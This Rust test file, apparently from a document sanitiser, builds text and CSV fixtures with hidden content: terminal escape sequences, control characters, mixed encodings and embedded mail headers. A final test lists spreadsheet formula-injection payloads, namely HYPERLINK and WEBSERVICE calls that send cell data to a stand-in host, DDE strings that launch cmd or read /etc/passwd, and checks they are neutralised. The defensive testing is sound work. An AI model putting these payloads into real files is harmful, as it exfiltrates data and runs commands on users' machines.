//! Plain texts and tables. They have no place of their own for what is hidden: what is not
//! shown as a character is refused.

use super::{Outcome, Row, Token};
use crate::refusal::{Damage, Foreign};
use crate::{Kind, Refusal};

const NO_TEXT: Outcome = Outcome::Refused(Refusal::Damaged(Damage::Encoding));

fn row(kind: Kind, place: &'static str, plant: fn(&Token) -> Vec<u8>, outcome: Outcome) -> Row {
    Row { kind, place, plant, outcome }
}

/// Words that people see, with something in between.
fn around(token: &Token, inside: &str) -> Vec<u8> {
    format!("The tank leaks.\n{}\n{inside}\nNobody speaks.\n", token.shown()).into_bytes()
}

fn table(token: &Token, cell: &str) -> Vec<u8> {
    format!("name;sum\n{};1\n{cell};2\n", token.shown()).into_bytes()
}

pub(super) fn rows() -> Vec<Row> {
    use Kind::{Csv, Text};
    vec![
        row(
            Text,
            "title that a terminal obeys",
            |t| around(t, &format!("\x1B]0;{}\x07", t.hidden())),
            Outcome::Refused(Refusal::UnknownFormat),
        ),
        row(
            Text,
            "control character far down",
            |t| {
                let lines = "A line of a letter.\n".repeat(300);
                format!("{lines}\x1B]0;{}\x1B", t.hidden()).into_bytes()
            },
            NO_TEXT,
        ),
        row(
            Text,
            "next line of ISO 8859-1",
            |t| around(t, &format!("\u{85}{}", t.hidden())),
            NO_TEXT,
        ),
        row(
            Text,
            "code points that are no characters",
            |t| around(t, &format!("\u{FDD0}{}", t.hidden())),
            NO_TEXT,
        ),
        row(
            Text,
            "bytes of a second encoding",
            |t| [around(t, "\u{F8}"), b"\xF8".to_vec(), t.hidden().into_bytes()].concat(),
            NO_TEXT,
        ),
        row(
            Text,
            "half a character of UTF-16 at the end",
            |t| [b"\xFF\xFE".to_vec(), t.utf16(), vec![b'a']].concat(),
            NO_TEXT,
        ),
        row(
            Text,
            "mail further down",
            |t| around(t, &format!("MIME-Version: 1.0\nX-Originating-IP: {}\n", t.hidden())),
            Outcome::Refused(Refusal::NotCleanable(Foreign::Mail)),
        ),
        row(
            Text,
            "language of pointed brackets that nobody knows",
            |t| format!("<gpx creator=\"{}\"><wpt/></gpx>", t.hidden()).into_bytes(),
            Outcome::Refused(Refusal::NotCleanable(Foreign::WebPage)),
        ),
        row(
            Csv,
            "control character in a cell",
            |t| {
                [
                    vec![0xEF, 0xBB, 0xBF],
                    table(t, "a"),
                    "b;1\n".repeat(1500).into_bytes(),
                    format!("\x07{};2", t.hidden()).into_bytes(),
                ]
                .concat()
            },
            NO_TEXT,
        ),
        row(
            Csv,
            "cell of a second encoding",
            |t| [table(t, "\u{F8}"), b"\xF8;".to_vec(), t.hidden().into_bytes()].concat(),
            NO_TEXT,
        ),
    ]
}

#[test]
fn what_calls_home_out_of_a_cell_is_text() {
    let token = Token::new(0);
    for cell in [
        "=HYPERLINK(\"http://x.test/?\"&A1)",
        "=WEBSERVICE(\"http://x.test/\")",
        "=cmd|'/C calc'!A0",
        "@SUM(A1)",
        "+cmd|x!A1",
        "-2+3+cmd|x!A1",
        "=IMPORTXML(CONCAT(\"http://x.test/\",A1),\"//a\")",
        "=DDE(\"soffice\";\"/etc/passwd\";1)",
        "=IMAGE(\"http://x.test/\")",
    ] {
        let quoted = format!("\"{}\"", cell.replace('"', "\"\""));
        let (copy, report) = super::clean(&table(&token, &quoted)).unwrap();
        let expected = quoted.replacen('"', "\"'", 1);
        assert!(copy.ends_with(format!("{expected};2\n").as_bytes()), "{cell}");
        assert_eq!(report.changes, [crate::Change::FormulasAsText], "{cell}");
        assert_eq!(super::clean(&copy).unwrap().0, copy);
    }
}
